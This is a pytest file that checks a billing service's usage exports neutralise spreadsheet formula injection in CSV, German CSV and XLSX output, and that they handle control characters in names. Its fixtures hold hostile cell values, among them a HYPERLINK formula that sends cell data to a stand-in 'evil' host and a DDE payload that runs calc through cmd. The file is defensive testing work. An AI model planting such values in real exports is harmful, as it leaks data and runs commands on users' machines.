"""Hostile names in usage exports: CSV, German CSV and XLSX hold them as inert text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from accounts.models import Organization
from billing.cells import FORMULA_STARTS, spreadsheet_text
from billing.tables import MACHINE_COLUMNS, PEOPLE_COLUMNS
from billing.usage import record_usage
from tests.factories import make_finance_office

ORGANISATION = '=HYPERLINK("http://evil/?"&A1,"x")'
COST_CENTRE = "@SUM(1+1)*cmd|' /C calc'!A0"
# Padded ones: spreadsheets look past spaces, quotes and tabs.
PADDED_ORGANISATION = '  "=1+1'
PADDED_COST_CENTRE = "\t=2+2"
INTERPRETERS = ("+49 170 1234567", "-2+3", '"@x";=2', "\uff1dSUM(A1)")
TARIFF = "-Sondertarif"
ROOM = "-Rm=" + "b" * 18
NUMERIC = {"duration_s", "billable_s", "amount_cents", "amount"}


@pytest.fixture
async def hostile(factory, db):
    """Usage of an organisation, cost centre, tariff and interpreters with hostile names;
    the organisation's id starts with `-` as a generated id may, and so does the id of
    the consultation the last call is a segment of."""
    async with db.write() as session:
        org = Organization(
            id="-Xq3" + "a" * 18,
            name=ORGANISATION,
            cost_center=COST_CENTRE,
            created_at=factory.clock.now(),
        )
        padded = Organization(
            name=PADDED_ORGANISATION,
            cost_center=PADDED_COST_CENTRE,
            created_at=factory.clock.now(),
        )
        session.add_all([org, padded])
    await factory.tariff(TARIFF, unit_s=60, price_per_unit_cents=150)
    counsellors = [await factory.user(organization=org), await factory.user(organization=padded)]
    start = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    for n, name in enumerate(INTERPRETERS):
        counsellor = counsellors[n % 2]
        interpreter = await factory.interpreter(display_name=name)
        moment = start + timedelta(hours=n)
        end = moment + timedelta(seconds=95)
        if n == len(INTERPRETERS) - 1:
            call = await factory.segment_between(counsellor, interpreter, ROOM, moment, end)
        else:
            call = await factory.call_between(counsellor, interpreter, "uk", moment, end)
        async with db.write() as session:
            await record_usage(session, call)
    await factory.login(await make_finance_office(factory))


async def export(client, **params: str) -> bytes:
    resp = await client.get("/api/usage", params=params)
    assert resp.status == 200, await resp.text()
    return await resp.read()


def expected_table(records: list[dict]) -> list[list[str]]:
    """The JSON records as the spreadsheet formats must show them: text made inert."""
    return [
        [
            str(r[c])
            if c in NUMERIC
            else ("true" if r[c] else "false")
            if isinstance(r[c], bool)
            else spreadsheet_text(r[c] or "")
            for c in MACHINE_COLUMNS
            if c != "amount"
        ]
        for r in records
    ]


def assert_inert(rows: list[list[str]]) -> None:
    """No cell starts a formula, however it is padded."""
    for row in rows:
        for cell in row:
            assert cell.lstrip(" \"'")[:1] not in FORMULA_STARTS or cell.startswith("'"), cell
            assert cell[:1] not in {*FORMULA_STARTS, "\t", "\r", "\n"}, cell


class TestFormulaInjection:
    async def test_json_keeps_the_names_as_they_are(self, client, hostile):
        """JSON is for programs, not spreadsheets: the records hold the names unchanged."""
        records = await (await client.get("/api/usage")).json()
        assert {r["organization"] for r in records} == {ORGANISATION, PADDED_ORGANISATION}
        assert {r["cost_center"] for r in records} == {COST_CENTRE, PADDED_COST_CENTRE}
        assert {r["tariff"] for r in records} == {TARIFF}
        assert {r["interpreter"] for r in records} == set(INTERPRETERS)

    async def test_csv_cells_are_inert_text(self, client, hostile):
        """Every text column of the CSV starts hostile values with `'`; nothing else moves."""
        records = await (await client.get("/api/usage")).json()
        text = (await export(client, format="csv")).decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0] == list(MACHINE_COLUMNS)
        body = [row[:6] + row[7:] for row in rows[1:]]  # without `amount`
        assert body == expected_table(records)
        assert_inert(body)
        assert {row[MACHINE_COLUMNS.index("organization")] for row in rows[1:]} == {
            "'" + ORGANISATION,
            "'" + PADDED_ORGANISATION,
        }
        assert rows[1][MACHINE_COLUMNS.index("organization_id")].startswith("'-Xq3")
        assert {row[MACHINE_COLUMNS.index("room_id")] for row in rows[1:]} == {"", "'" + ROOM}

    async def test_german_csv_cells_are_inert_text(self, client, hostile):
        """The German Excel CSV holds the same names, inert, in its German columns."""
        text = (await export(client, format="csv", dialect="de")).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
        assert_inert([list(r.values()) for r in rows])
        assert {r["Organisation"] for r in rows} == {"'" + ORGANISATION, "'" + PADDED_ORGANISATION}
        assert {r["Kostenstelle"] for r in rows} == {"'" + COST_CENTRE, "'" + PADDED_COST_CENTRE}
        assert {r["Dolmetscher*in"] for r in rows} == {spreadsheet_text(n) for n in INTERPRETERS}
        assert {r["Tarif"] for r in rows} == {"'" + TARIFF}
        assert any(r["Organisations-ID"].startswith("'-Xq3") for r in rows)
        assert {r["Beratungs-ID"] for r in rows} == {"", "'" + ROOM}

    async def test_xlsx_holds_text_cells_never_formulas(self, client, hostile):
        """In the XLSX every text is a string cell with the same inert value as the CSV."""
        book = load_workbook(io.BytesIO(await export(client, format="xlsx")))
        for sheet in book.worksheets:
            cells = list(sheet.iter_rows(min_row=2))
            assert all(c.data_type != "f" for row in cells for c in row)
            texts = [[c.value for c in row if c.data_type == "s"] for row in cells]
            assert_inert(texts)
        calls = list(book["Gespräche"].iter_rows(values_only=True))
        column = [c.de for c in PEOPLE_COLUMNS].index("Organisation")
        assert {row[column] for row in calls[1:]} == {"'" + ORGANISATION, "'" + PADDED_ORGANISATION}
        summary = list(book["Zusammenfassung"].iter_rows(values_only=True))
        assert {row[0] for row in summary[1:]} == {"'" + ORGANISATION, "'" + PADDED_ORGANISATION}


class TestControlCharacters:
    async def test_xlsx_export_shows_names_with_control_characters(self, client, factory, db):
        """A name holding control characters (as text pasted from another program may) is
        exported, each such character shown as a space; the export does not break off."""
        counsellor = await factory.user()
        interpreter = await factory.interpreter(display_name="Olena\x0bKovalenko\x1b")
        start = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
        call = await factory.call_between(
            counsellor, interpreter, "uk", start, start + timedelta(seconds=95)
        )
        async with db.write() as session:
            await record_usage(session, call)
        await factory.login(await make_finance_office(factory))
        book = load_workbook(io.BytesIO(await export(client, format="xlsx")))
        calls = list(book["Gespräche"].iter_rows(values_only=True))
        column = [c.de for c in PEOPLE_COLUMNS].index("Dolmetscher*in")
        assert [row[column] for row in calls[1:]] == ["Olena Kovalenko "]
